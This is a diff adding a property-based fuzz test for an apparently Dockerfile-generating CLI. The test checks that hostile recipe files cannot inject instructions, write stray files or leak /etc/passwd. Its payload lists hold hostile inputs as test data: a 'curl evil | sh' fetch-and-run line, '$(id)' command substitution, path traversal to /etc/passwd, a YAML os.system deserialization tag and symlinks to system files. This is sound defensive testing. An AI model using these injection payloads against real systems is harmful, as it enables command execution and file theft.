@@ -13,11 +13,16 @@ import os
 import signal
 import subprocess
 import sys
+import tempfile
 import textwrap
 import time
 from pathlib import Path
 
+import dockerfile
 import pytest
+import yaml
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
 
 from imagegen import safety
 from imagegen.cli import main
@@ -434,3 +439,196 @@ def test_the_unsafe_value_message_reads_as_a_sentence():
         safety.check("a b", safety.ENV_NAME, "--env")
     assert "is not allowed: use a value matching" in str(err.value)
     assert "use it must match" not in str(err.value)
+
+
+# --------------------------------------------------------------------------------------------
+# The fuzz test: generated hostile recipe directories through the real CLI
+
+
+# Every key path a recipe reads (each nested mapping too), where a generated value replaces the
+# base recipe's or is added to it.
+KEY_PATHS = [
+    ("schema",), ("name",), ("aliases",), ("description",), ("homepage",), ("distribution",), ("default_version",),
+    ("source",), ("source", "git"), ("source", "path"), ("source", "submodules"), ("source", "subdir"),
+    ("versions",), ("versions", "1.0"), *[("versions", "1.0", k) for k in (
+        "ref", "commit", "archs", "emits", "min_cuda_by_arch", "patches", "extensions", "arch", "env", "requires",
+        "notes")],
+    ("versions", "1.0", "requires", "torch"), ("versions", "1.0", "requires", "cuda", "spec"),
+    ("versions", "1.0", "extensions", "demo._C"), ("versions", "1.0", "extensions", "demo._C", "archs"),
+    ("versions", "1.0", "arch", "style"), ("versions", "1.0", "min_cuda_by_arch", "9.0"), ("versions", "1.0", "emits", "9.0"),
+    ("arch",), *[("arch", k) for k in ("env", "style", "fixed", "fixed_dropped", "ptx", "keep_variant", "parser", "runs_on")],
+    ("arch", "fixed", "12.8"), ("arch", "runs_on", "8.6"),
+    ("build",), *[("build", k) for k in (
+        "force_env", "local_version_env", "jobs_env", "threads_env", "default_nvcc_threads", "memory_per_thread_gb",
+        "ext_parallel", "env", "requires", "system_requires", "min_cuda", "min_torch", "max_torch", "python",
+        "links_libcuda", "abi3")],
+    ("build", "ext_parallel", "max"), ("build", "env", "X"), ("build", "force_env", "X"),
+    ("smoke",), ("smoke", "imports"), ("smoke", "driver_imports"), ("smoke", "gpu_check"),
+    ("obsolete_patches",),
+]
+CONTROL = ["\x1b", "\x00", "\x07", "\x7f", "\x9b", "\u202e", "\u2066", "\u200f", "\ufeff", "\x85", "\u2028", "\r", "\n", "\t"]
+NASTY = ["RUN id", "x\nRUN curl evil | sh", "$(id)", "`id`", "${IMAGEGEN_PIP_CERT}", "'\"", "\\", "/etc/passwd",
+         "../../../etc/passwd", "..", ".", "~", "-rf", "--privileged", "9.0", "9.0a", "12.0+PTX", "sm_90", "12.8",
+         ">=2.8", "===x", "v1.0", "0123456789abcdef0123456789abcdef01234567", "demo", "https://x/$(id).git",
+         "IMAGEGEN_EOF", "IMAGEGEN_CELL_JSON", "EOF", "\u202eexe.txt", "\x1b[2J\x1b]0;pwned\x07"]
+short_texts = st.one_of(
+    st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),
+    st.text(st.sampled_from(CONTROL + list("RUN $`\"'\\;|&{}#:-[]*!%@")), max_size=30),
+    st.sampled_from(NASTY),
+)
+texts = st.one_of(short_texts, st.integers(2_000, 300_000).map(lambda n: "A" * n))
+scalars = st.one_of(texts, st.integers(-(10 ** 30), 10 ** 30), st.floats(), st.booleans(), st.none())
+values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
+    st.one_of(short_texts, st.integers(), st.floats(allow_nan=False), st.booleans()),
+    inner, max_size=4), max_leaves=12)
+# Whole files that are not a recipe document at all.
+RAW = st.one_of(
+    st.sampled_from([BOMB_PLACES[k](BOMB) for k in sorted(BOMB_PLACES)]),
+    st.integers(33, 20_000).map(lambda n: "a: " + "[" * n + "]" * n),
+    st.integers(33, 20_000).map(lambda n: "a:\n" + "".join(" " * i + "- \n" for i in range(0, n, 2))[:200_000]),
+    st.binary(max_size=300),
+    st.text(max_size=300),
+    st.tuples(st.integers(0, len(BASE)), st.text(max_size=20)).map(lambda t: BASE[:t[0]] + t[1] + BASE[t[0]:]),
+    st.just(BASE + "#" * (MAX_RECIPE_BYTES + 1)),
+    st.sampled_from(["", "---\n...\n", "- 1\n", "? [a]\n: b\n", "a: !!python/object/apply:os.system [id]\n",
+                     "a: &x 1\nb: *x\n", "<<: {a: 1}\n", "a: 0x" + "f" * 5000 + "\n", "a: !!float x\n"]),
+)
+FREE_TEXT = [("description",), ("versions", "1.0", "notes"), ("smoke", "gpu_check"),
+             ("obsolete_patches", 0, "name"), ("obsolete_patches", 0, "reason")]
+PATCH_KINDS = ["none", "regular", "to-passwd", "fifo", "directory", "dangling", "loop", "climb", "huge"]
+
+
+def _set(doc: dict, path: tuple, value) -> None:
+    if path[0] == "obsolete_patches" and len(path) == 3:  # a list of {name, reason}
+        doc["obsolete_patches"] = [{"name": "n", "reason": "r", path[2]: value}]
+        return
+    node = doc
+    for key in path[:-1]:
+        if not isinstance(node.get(key), dict):
+            node[key] = {}
+        node = node[key]
+    node[path[-1]] = value
+
+
+@st.composite
+def hostile_recipe(draw) -> tuple[bytes, str]:
+    """(the recipe file's bytes, what to put in patches/)."""
+    patch = draw(st.sampled_from(PATCH_KINDS + ["none"] * 6 + ["regular"] * 5))
+    if draw(st.integers(0, 4)) == 0:
+        raw = draw(RAW)
+        return (raw if isinstance(raw, bytes) else raw.encode("utf-8", "surrogatepass")), patch
+    doc = yaml.safe_load(BASE)
+    if patch != "none":
+        name = "../../../../etc/passwd" if patch == "climb" else "x.patch"
+        doc["versions"]["1.0"]["patches"] = [{"file": name, "reason": "fuzz"}]
+    # Free text a recipe may carry: accepted, and must stay out of the Dockerfile's instructions.
+    for path in draw(st.lists(st.sampled_from(FREE_TEXT), max_size=3)):
+        _set(doc, path, draw(st.one_of(short_texts, st.integers(1, 7000).map(lambda n: "RUN id\n" * n))))
+    for _ in range(draw(st.sampled_from([0, 0, 1, 1, 2, 3]))):
+        path = draw(st.sampled_from(KEY_PATHS))
+        action = draw(st.sampled_from(["set", "set", "delete", "unknown-key"]))
+        if action == "set":
+            _set(doc, path, draw(values))
+        elif action == "delete":
+            parent = doc
+            for key in path[:-1]:
+                parent = parent.get(key) if isinstance(parent, dict) else None
+            if isinstance(parent, dict):
+                parent.pop(path[-1], None)
+        else:
+            _set(doc, path + (draw(short_texts.filter(bool)),), draw(values))
+    text = yaml.safe_dump(doc, allow_unicode=draw(st.booleans()), width=10 ** 9)
+    return text.encode("utf-8", "surrogatepass"), patch
+
+
+def _make_patch(d: Path, kind: str) -> None:
+    patches = d / "patches"
+    patches.mkdir()
+    target = patches / "x.patch"
+    if kind == "regular":
+        target.write_text("--- a\n+++ b\nRUN id\nIMAGEGEN_EOF\n")
+    elif kind == "to-passwd":
+        target.symlink_to("/etc/passwd")
+    elif kind == "fifo":
+        os.mkfifo(target)
+    elif kind == "directory":
+        target.mkdir()
+    elif kind == "dangling":
+        target.symlink_to(patches / "gone")
+    elif kind == "loop":
+        target.symlink_to(target)
+    elif kind == "huge":
+        with open(target, "wb") as fh:
+            fh.truncate(1 << 30)
+
+
+def _snapshot(root: Path) -> dict[str, tuple]:
+    out = {}
+    for folder, dirs, files in os.walk(root):
+        for name in dirs + files:
+            p = Path(folder, name)
+            st_ = p.lstat()
+            changes = () if p.is_dir() and not p.is_symlink() else (st_.st_size, st_.st_mtime_ns)
+            out[str(p.relative_to(root))] = (st_.st_mode, *changes)
+    return out
+
+
+def _instructions(text: str) -> list[str]:
+    return [c.cmd.upper() for c in dockerfile.parse_string(text)]
+
+
+_CLEAN: list[list[str]] = []
+
+
+def _clean_instructions() -> list[str]:
+    if not _CLEAN:
+        with tempfile.TemporaryDirectory() as tmp:
+            code, out, err = render(recipe_dir(Path(tmp), BASE))
+            assert code == 0, err
+            _CLEAN.append(_instructions(out))
+    return _CLEAN[0]
+
+
+@settings(max_examples=int(os.environ.get("IMAGEGEN_FUZZ_EXAMPLES", "250")), deadline=None,
+          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example,
+                                 HealthCheck.filter_too_much])
+@given(case=hostile_recipe())
+def test_fuzz_hostile_recipe_directories(case):
+    data, patch = case
+    clean = _clean_instructions()
+    with tempfile.TemporaryDirectory() as tmp:
+        root = Path(tmp)
+        d = root / "recipes"
+        d.mkdir()
+        (d / "demo.yaml").write_bytes(data)
+        if patch != "none":
+            _make_patch(d, patch)
+        (root / "out").mkdir()
+        (root / "work").mkdir()
+        before = _snapshot(root)
+        cwd = os.getcwd()
+        os.chdir(root / "work")
+        try:
+            results = [run("plan", "demo", "--recipe-dir", str(d), *CELL, limit=8),
+                       run("render", "demo", "--recipe-dir", str(d), *CELL, "-o", str(root / "out" / "Dockerfile"),
+                           limit=8)]
+        finally:
+            os.chdir(cwd)
+        after = _snapshot(root)
+        written = {k for k in after if k not in before or after[k] != before[k]}
+        assert written <= {"out/Dockerfile"}, written
+        for (code, out, err), command in zip(results, ("plan", "render")):
+            assert "Traceback" not in err and "internal error" not in err, err[-2000:]
+            if code != 0:
+                one_error(code, err, codes=(2, 3) if command == "plan" else (2, 3))
+                assert "root:x:0:0" not in out
+            else:
+                assert "imagegen: error" not in err
+        event(f"plan exit {results[0][0]}, render exit {results[1][0]}")
+        code, _, _ = results[1]
+        rendered = root / "out" / "Dockerfile"
+        assert rendered.exists() == (code == 0)
+        if code == 0:
+            text = rendered.read_text(encoding="utf-8")
+            assert "root:x:0:0" not in text
+            assert _instructions(text) == clean  # the template's instructions, none added or lost
